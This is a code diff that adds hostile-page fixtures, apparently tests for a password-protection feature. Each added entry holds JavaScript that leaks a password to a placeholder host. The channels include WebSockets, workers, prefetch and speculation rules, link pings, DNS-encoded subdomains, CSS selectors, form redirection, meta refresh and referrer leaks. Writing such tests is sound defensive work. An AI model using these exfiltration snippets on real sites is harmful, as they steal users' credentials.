@@ -7,10 +7,14 @@ export interface HostilePage {
   readonly behind?: string
   /** Markup of the page behind it; `%P` is the password. */
   readonly shows?: string
+  /** The page's own /worker.js. */
+  readonly script?: string
 }
 
 const onInput = (source: string) =>
   `document.querySelector('[type=password]').addEventListener('input', () => { ${source} })`
+/** Runs once an ordinary request has made the other site one that is talked to. */
+const onceKnown = (source: string) => `fetch('E/known', { mode: 'no-cors' }).then(async () => { ${source} })`
 const onSubmit = (source: string) => `document.querySelector('form').addEventListener('submit', () => { ${source} })`
 
 export const HOSTILE_PAGES: readonly HostilePage[] = [
@@ -106,5 +110,94 @@ export const HOSTILE_PAGES: readonly HostilePage[] = [
     name: 'split over elements',
     behind:
       "for (const c of P) { const b = document.createElement('b'); b.textContent = c; document.querySelector('h1').append(b) }",
+  },
+  {
+    name: 'a WebSocket to a site that is talked to',
+    behind: onceKnown("const s = new WebSocket('E/'.replace('http', 'ws')); s.onopen = () => s.send(P)"),
+  },
+  {
+    name: 'a WebSocket from a worker, to a site that is talked to',
+    behind: onceKnown(
+      'new Worker(URL.createObjectURL(new Blob([\'const s = new WebSocket("E/".replace("http", "ws")); s.onopen = () => s.send("\' + P + \'")\'])))',
+    ),
+  },
+  {
+    name: 'a shared worker that asks a site that is talked to',
+    behind: onceKnown("new SharedWorker('/worker.js').port.postMessage(P)"),
+    script: "onconnect = e => { e.ports[0].onmessage = m => fetch('E/?p=' + m.data, { mode: 'no-cors' }) }",
+  },
+  {
+    name: 'a service worker that asks a site that is talked to',
+    behind: onceKnown(
+      "await navigator.serviceWorker.register('/worker.js'); (await navigator.serviceWorker.ready).active.postMessage(P)",
+    ),
+    script: "onmessage = m => fetch('E/', { method: 'POST', mode: 'no-cors', body: m.data })",
+  },
+  {
+    name: 'a prefetch of a site that is talked to',
+    behind: onceKnown(
+      "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'E/?p=' + P; document.head.append(l)",
+    ),
+  },
+  {
+    name: 'speculation rules for a site that is talked to',
+    behind: onceKnown(
+      "const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['E/?p=' + P], eagerness: 'immediate' }] }); document.head.append(r)",
+    ),
+  },
+  {
+    name: 'an icon from a site that is talked to',
+    behind: onceKnown(
+      "const l = document.createElement('link'); l.rel = 'icon'; l.href = 'E/?p=' + P; document.head.append(l)",
+    ),
+  },
+  {
+    name: 'a ping of a link',
+    behind: onceKnown(
+      "const a = document.createElement('a'); a.href = '#x'; a.ping = 'E/?p=' + P; document.body.append(a); a.click()",
+    ),
+  },
+  {
+    name: 'host names to connect to beforehand',
+    behind:
+      "for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'E/'.replace('localhost', [...P].map(c => c.charCodeAt(0).toString(16)).join('') + '.localhost'); document.head.append(l) } fetch('E/'.replace('localhost', [...P].map(c => c.charCodeAt(0).toString(16)).join('') + '.localhost'), { mode: 'no-cors' })",
+  },
+  {
+    name: 'selectors of a style sheet, a letter at a time',
+    atForm: onInput(
+      "const f = document.querySelector('[type=password]'); f.setAttribute('value', pw()); const s = document.createElement('style'); s.textContent = 'input[value^=\"' + pw() + '\"] { background: url(E/?p=' + pw() + ') }'; document.head.append(s)",
+    ),
+  },
+  {
+    name: 'a base that turns the form to another site',
+    atForm: onInput("const b = document.createElement('base'); b.href = 'E/'; document.head.prepend(b)"),
+  },
+  {
+    name: 'a button that turns the form to another site as it is sent',
+    atForm:
+      "document.querySelector('button').addEventListener('click', () => { document.querySelector('button').formAction = 'E/in' })",
+  },
+  {
+    name: 'the name of the window',
+    behind: "window.name = P; setTimeout(() => { location.href = 'E/named' }, 300)",
+  },
+  {
+    name: 'a page that sends on by itself',
+    behind:
+      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=E/?p=' + P; document.head.append(m)",
+  },
+  {
+    name: 'the address that a picture is asked for from',
+    behind:
+      "history.pushState(null, '', '/home/' + P); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = 'E/'; document.body.append(i)",
+  },
+  {
+    name: 'a stream of events',
+    behind: "new EventSource('E/?p=' + P)",
+  },
+  {
+    name: 'a closed shadow root that shows it',
+    behind:
+      "const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<p style=\"font:40px monospace\">' + P + '</p>'; document.body.append(d)",
   },
 ]
